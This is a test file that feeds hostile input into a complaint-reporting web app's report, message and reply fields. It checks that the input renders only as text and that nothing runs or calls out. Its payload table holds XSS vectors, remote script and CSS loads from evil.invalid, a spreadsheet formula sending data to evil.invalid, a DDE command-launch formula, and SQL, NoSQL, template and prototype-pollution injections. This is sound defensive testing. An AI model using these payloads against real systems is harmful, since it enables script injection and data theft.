// Hostile texts in every place where somebody can write: they come out as the text that they are, wherever they are
// shown, and nothing in them runs, loads or breaks the page.
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { texts } from "../../web/build/texts.ts";
import type { Visit } from "../kit/browser.ts";
import {
  act,
  caseOf,
  file,
  fillIn,
  messagesOf,
  nextCase,
  openBox,
  postMessage,
  problemsOn,
  type Scene,
  startScene,
} from "./sealed-visit.ts";
import { signIn, type StaffMember } from "./staff-desk.ts";

const hit = "window.hit=1;alert(1)";
const payloads: Readonly<Record<string, string>> = {
  "script tag": `<script>${hit}</script>`,
  "script tag that closes others": `"'></textarea></option></template></style></title><script>${hit}</script>`,
  "remote script": `<script src="//evil.invalid/a.js"></script>`,
  "event handler": `<img src=x onerror="${hit}"><body onload=${hit}>`,
  svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="${hit}"><script>${hit}</script><use href="//evil.invalid/#a"/></svg>`,
  "javascript link": `<a href="javascript:${hit}">mở</a> javascript:${hit}`,
  "data link": `<iframe src="data:text/html,<script>${hit}</script>"></iframe>`,
  style: `<style>@import url(//evil.invalid/a.css)</style><p style="background:url(//evil.invalid/b)">`,
  meta: `<meta http-equiv=refresh content="0;url=//evil.invalid"><base href="//evil.invalid/">`,
  entities: `&lt;script&gt;${hit}&lt;/script&gt; &amp;amp; &#60;b&#62;`,
  "spreadsheet formula": `=HYPERLINK("http://evil.invalid?x="&A1,"mở")`,
  "other formulas": `+1+cmd|' /C calc'!A0 @SUM(1) -2+3`,
  "template literal": "${" + hit + "} {{constructor.constructor('" + hit + "')()}} <%= 1 %> #{1}",
  "json and sql": `"},{"__proto__":{"hit":1}} '; DROP TABLE Cases;-- {"$ne":null}`,
  emoji: "🛡️👩🏽‍⚖️🇻🇳 e\u0301 ﷽ \u200d\u200b Z̸̲͝a̷l̶g̵o",
  "long word": "W".repeat(600),
};
const everything = Object.values(payloads).join("\n").normalize("NFC");
const overrides = ["\u202E", "\u202A", "\u2066", "\u2069", "\u0000", "\u0007"];

/** Everything that would show that something ran on the page. */
const guardOver = ({ page, watch }: Visit) => {
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const errors: string[] = [];
  page.on("pageerror", (error) => void errors.push(error.message));
  return async (origin: string): Promise<void> => {
    expect(dialogs).toEqual([]);
    expect(errors).toEqual([]);
    expect(watch.complaints).toEqual([]);
    expect(watch.requests.filter((address) => new URL(address).origin !== origin)).toEqual([]);
    expect(await page.evaluate(() => "hit" in window || "hit" in {})).toBe(false);
  };
};

const wideBy = (page: Page): Promise<number> =>
  page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);

describe("hostile texts", () => {
  let scene: Scene;
  let supervisor: StaffMember;
  beforeAll(async () => {
    scene = await startScene();
    supervisor = await signIn(scene.running.origin, "supervisor", "so-noi-vu");
  });
  afterAll(() => scene.stop());

  it("stay text in a report, a message and a reply", async () => {
    const visit = await scene.visit({ viewport: { width: 320, height: 800 } });
    const { page, end } = visit;
    const nothingRan = guardOver(visit);
    await page.goto(scene.at("/report"));
    const about = everything.replaceAll("\n", " ").slice(0, 300);
    const receipt = await file(page, { narrative: everything, about });
    const caseId = await nextCase(supervisor, []);
    expect((await caseOf(supervisor, caseId)).report).toEqual({ narrative: everything, about });
    await nothingRan(scene.running.origin);

    for (const body of Object.values(payloads)) await act(supervisor, "replyToReporter", { caseId, body });
    await page.goto(scene.at("/mailbox"));
    const parts = page.locator(
      `:is(script:not([src^="/assets/"]), style, img, iframe, svg, meta, base, link)`,
    );
    const before = await parts.count();
    await openBox(page, receipt);
    expect(await page.locator("#letters .body").allTextContents()).toEqual(
      Object.values(payloads).map((text) => text.normalize("NFC")),
    );
    expect(await page.locator("#letters .body *, #letters a").count()).toBe(0);
    expect(await parts.count()).toBe(before);
    expect(await wideBy(page)).toBe(0);
    await postMessage(page, everything);
    const messages = await messagesOf(supervisor, caseId, 1);
    expect(messages.filter(({ from }) => from === "REPORTER")).toEqual([
      { from: "REPORTER", body: everything },
    ]);
    await nothingRan(scene.running.origin);
    await end();
  });

  it.each(["narrative", "about"])("stay text where the guard quotes them from #%s", async (field) => {
    const visit = await scene.visit({ viewport: { width: 320, height: 800 } });
    const { page, end } = visit;
    const nothingRan = guardOver(visit);
    await page.goto(scene.at("/report"));
    await page.locator(`#${field}`).pressSequentially("a");
    for (const payload of Object.values(payloads)) {
      const text = `Tôi tên là Nguyễn Thị Hoa, 0912 345 678, <b>hoa@evil.invalid</b>\n${payload}`.slice(
        0,
        300,
      );
      await page.locator(`#${field}`).fill(text.replaceAll("\n", " "));
      await page.locator(`[data-guard=${field}]:visible`).waitFor();
      expect(await page.locator(`[data-guard=${field}] dd *`).count()).toBe(0);
    }
    expect(await wideBy(page)).toBe(0);
    await nothingRan(scene.running.origin);
    await end();
  });

  it("that turn or rule what a reader sees are refused before they are sent", async () => {
    const visit = await scene.visit();
    const { page, watch, end } = visit;
    await page.goto(scene.at("/report"));
    for (const sign of overrides) {
      for (const field of ["narrative", "about"]) {
        await fillIn(page);
        const text = `Ba lần đổi phiếu hẹn${sign}, hồ sơ không được giải quyết.`;
        await page.locator(`#${field}`).evaluate((element: HTMLInputElement, value) => {
          element.value = value;
        }, text);
        await page.locator("#send").click();
        expect(await problemsOn(page)).toEqual([texts.vi.report.problems.malformed]);
        expect(await page.locator("[aria-invalid=true]").getAttribute("id")).toBe(field);
      }
    }
    expect(watch.requests.filter((address) => address.includes("/intake/"))).toEqual([]);

    const receipt = await file(page);
    await page.goto(scene.at("/mailbox"));
    await openBox(page, receipt);
    const before = watch.requests.length;
    for (const sign of overrides) {
      await page.locator("#message").evaluate((element: HTMLInputElement, value) => {
        element.value = value;
      }, `Phiếu số${sign} 88`);
      await page.locator("#post").click();
      await page.locator("#problems [data-text=malformed]:visible").waitFor();
    }
    expect(watch.requests.slice(before)).toEqual([]);
    await end();
  });
});
